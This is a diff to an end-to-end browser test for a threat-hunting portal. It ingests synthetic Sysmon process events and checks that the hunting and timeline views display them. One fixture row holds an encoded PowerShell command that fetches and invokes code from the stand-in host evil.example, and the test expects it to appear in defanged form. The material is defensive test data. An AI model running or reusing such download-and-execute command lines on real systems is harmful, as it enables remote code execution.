@@ -3,7 +3,8 @@ import type { Browser, BrowserContext, Download, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { call, enter, type Incident, launch, open, seriousFindings, settled, type Watch } from './browser';
 
-// Needs the account that portal.test.ts sets up. Queries bring their own rows.
+// Needs the account that portal.test.ts sets up. Queries bring their own rows
+// where they can; what is asked of tables is ingested below.
 
 let browser: Browser;
 let context: BrowserContext;
@@ -16,6 +17,13 @@ beforeAll(async () => {
   browser = await launch();
   ({ context, page, watch } = await open(browser));
   await enter(context);
+  const events = [
+    process(14, 'ws1.hunt.example', 'cmd.exe', 'cmd.exe /c whoami'),
+    process(13, 'ws1.hunt.example', 'powershell.exe', 'powershell.exe -enc SQBFAFgA https://evil.example/x'),
+    process(5, 'ws2.hunt.example', 'cmd.exe', 'cmd.exe /c hostname'),
+  ];
+  const receipt = await call<{ received: number; stored: number }>(context, 'POST', '/telemetry/auto', events);
+  expect([receipt.received, receipt.stored]).toEqual([3, 3]);
 });
 
 afterAll(async () => {
@@ -47,6 +55,24 @@ async function run(query: string): Promise<void> {
 
 const minute = 60_000;
 const ago = (minutes: number): string => new Date(Date.now() - minutes * minute).toISOString();
+
+/** A process that Sysmon saw start. */
+const process = (minutes: number, host: string, image: string, line: string) => ({
+  '@timestamp': ago(minutes),
+  EventID: 1,
+  Channel: 'Microsoft-Windows-Sysmon/Operational',
+  SourceName: 'Microsoft-Windows-Sysmon',
+  Hostname: host,
+  UtcTime: ago(minutes).replace('T', ' ').replace('Z', ''),
+  ProcessGuid: '{0197231e-55fb-5f5c-5a04-000000000800}',
+  ProcessId: String(4_000 + minutes),
+  Image: `C:\\Windows\\System32\\${image}`,
+  CommandLine: line,
+  User: 'HUNT\\ada',
+  ParentImage: 'C:\\Windows\\explorer.exe',
+  ParentProcessId: '812',
+  Hashes: 'SHA1=08A2C4D6E8F0123456789ABCDEF0123456789ABC',
+});
 
 /** Three rows with what attackers write, and two devices. */
 const hostile = `datatable(Timestamp:datetime, DeviceName:string, AccountUpn:string, FileName:string, Url:string, Count:long, Bag:dynamic) [
@@ -340,11 +366,11 @@ describe('go hunt', () => {
     await pane.getByRole('button', { name: 'Go hunt' }).first().click();
     await page.getByRole('menuitem', { name: 'Processes' }).waitFor();
     expect(await seriousFindings(page)).toEqual([]);
-    await page.getByRole('menuitem', { name: 'Alerts' }).click();
+    await page.getByRole('menuitem', { name: 'Processes' }).click();
     await page.waitForURL('**/hunting?*');
-    await expect.poll(() => editor().innerText()).toContain('AlertEvidence');
-    await expect.poll(() => rows().count()).toBeGreaterThan(0);
-    await page.getByRole('grid', { name: 'Results' }).getByText('ws1.hunt.example').first().waitFor();
+    await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
+    await expect.poll(() => rows().count()).toBe(2);
+    await page.getByRole('grid', { name: 'Results' }).getByText('cmd.exe /c whoami').first().waitFor();
   });
 
   it('leads to the timeline of an entity', async () => {
@@ -354,11 +380,16 @@ describe('go hunt', () => {
     await page.getByRole('complementary', { name: 'Entity' }).getByRole('button', { name: 'Go hunt' }).first().click();
     await page.getByRole('menuitem', { name: 'Timeline of its events' }).click();
     await page.waitForURL('**/timeline?at=*');
-    await page.getByText('No table holds events of such a thing').waitFor();
+    await page.getByText('cmd.exe /c whoami').first().waitFor();
+    await page.getByText('hxxps[://]evil[.]example/x').first().waitFor();
+    expect(await page.locator('[data-row]').count()).toBeGreaterThan(1);
     expect(await seriousFindings(page)).toEqual([]);
-    await page.getByRole('link', { name: 'Back to the entity' }).click();
-    await page.getByRole('link', { name: 'Timeline' }).click();
-    await page.waitForURL('**/timeline');
+    await page.locator('[data-row]').first().click();
+    await page.getByRole('complementary', { name: 'Record' }).getByText('ProcessCommandLine').waitFor();
+    await page.getByRole('button', { name: '30 min either side' }).click();
+    await page.getByRole('link', { name: 'Open as a query' }).click();
+    await page.waitForURL('**/hunting?*');
+    await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
   });
 
   it('never runs what a plain link brings', async () => {
